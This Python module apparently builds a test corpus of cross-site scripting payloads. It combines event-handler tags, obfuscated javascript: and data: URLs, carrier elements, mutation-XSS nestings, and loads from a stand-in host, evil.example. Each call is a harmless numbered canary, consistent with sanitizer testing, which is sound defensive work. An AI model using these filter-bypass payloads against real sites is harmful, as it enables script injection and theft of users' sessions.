"""Markup that runs a script or leads away by itself, put together from its parts: what calls, in which spelling, inside of what."""

from __future__ import annotations

import re
from collections.abc import Iterator
from itertools import product

FOREIGN = "evil.example"
_HANDLERS = {
    "img src=x": "onerror",
    "img srcset=x": "onerror",
    "image src=x": "onerror",
    "svg": "onload",
    "svg><animate attributeName=x dur=1s": "onbegin",
    "svg><set attributeName=x dur=1s": "onbegin",
    "math><mtext><img src=x": "onerror",
    "body": "onpageshow",
    "details open": "ontoggle",
    "input autofocus": "onfocus",
    "x tabindex=1 autofocus": "onfocus",
    "video src=x": "onerror",
    "video><source": "onerror",
    "audio src=x": "onerror",
    "iframe": "onload",
    "object data=x": "onerror",
    "style": "onload",
    "link rel=stylesheet href=/vendor.css": "onload",
    "script src=/static/js/clock.js": "onload",
    "marquee": "onstart",
}
_SPELLINGS = (
    "<{tag} {handler}={call}>",
    '<{tag} {handler}="{call}">',
    "<{tag}/{handler}='{entities}'>",
    "<{tag}\n{handler} = {call} //",
    "<{shouted} {shouted_handler}={call}>",
)
_ADDRESSES = (
    "javascript:{call}",
    "java\tscript:{call}",
    "java\nscript:{call}",
    "&#1;JaVaScRiPt&colon;{call}",
    "&#106;&#x61;vascript:{call}",
    "javascript://%0a{call}",
    "vbscript:{call}",
    "data:text/html,<script>{call}</script>",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{call}'/>",
    f"//{FOREIGN}/",
)
_CARRIERS = (
    '<iframe src="{address}"></iframe>',
    '<object data="{address}"></object>',
    '<embed src="{address}">',
    '<script src="{address}"></script>',
    '<link rel=stylesheet href="{address}">',
    '<img src="{address}">',
    '<base href="{address}">',
    '<meta http-equiv=refresh content="0;url={address}">',
    '<svg><use href="{address}"/></svg>',
    '<svg><a xlink:href="{address}"><text y=20>x</text></a></svg>',
    '<math href="{address}">x</math>',
    '<a href="{address}" autofocus>x</a>',
    '<form action="{address}"><input autofocus></form>',
    '<style>@import "{address}";</style>',
)
_WHOLE = (
    "<script>{call}</script>",
    "<svg><script>{call}</script></svg>",
    "<iframe srcdoc='<script>{call}</script>'></iframe>",
)
# What is around it: nothing, the end of what may stand before it, and what a parser reads otherwise the second time.
_NESTINGS = (
    "{}",
    '">{}',
    "'>{}",
    "</textarea></title>{}",
    "--><!-->{}",
    '<noscript><p title="</noscript>{}">',
    "<math><mtext><table><mglyph><style><!--</style>{}",
    '<svg></p><style><g title="</style>{}">',
    '<form><math><mtext></form><form><mglyph><svg><mtext><style><path id="</style>{}">',
    "<template><select><template>{}",
)


def _markup() -> Iterator[str]:
    for (tag, handler), spelling in product(_HANDLERS.items(), _SPELLINGS):
        entities = "".join(f"&#{ord(letter)};" for letter in "canary(") + "{number})"
        parts = {"tag": tag, "handler": handler, "entities": entities, "call": "canary({number})"}
        yield spelling.format(shouted=tag.upper(), shouted_handler=handler.upper(), **parts)
    for carrier, address in product(_CARRIERS, _ADDRESSES):
        yield carrier.format(address=address.format(call="canary({number})"))
    yield from (whole.format(call="canary({number})") for whole in _WHOLE)


def scripts() -> list[str]:
    """Return them all, each around another number, in turn in every nesting."""
    numbered = [re.sub(r"\{number\}", str(number), markup) for number, markup in enumerate(_markup())]
    return [
        _NESTINGS[(number + turn) % len(_NESTINGS)].replace("{}", markup)
        for turn in range(2)
        for number, markup in enumerate(numbered)
    ]
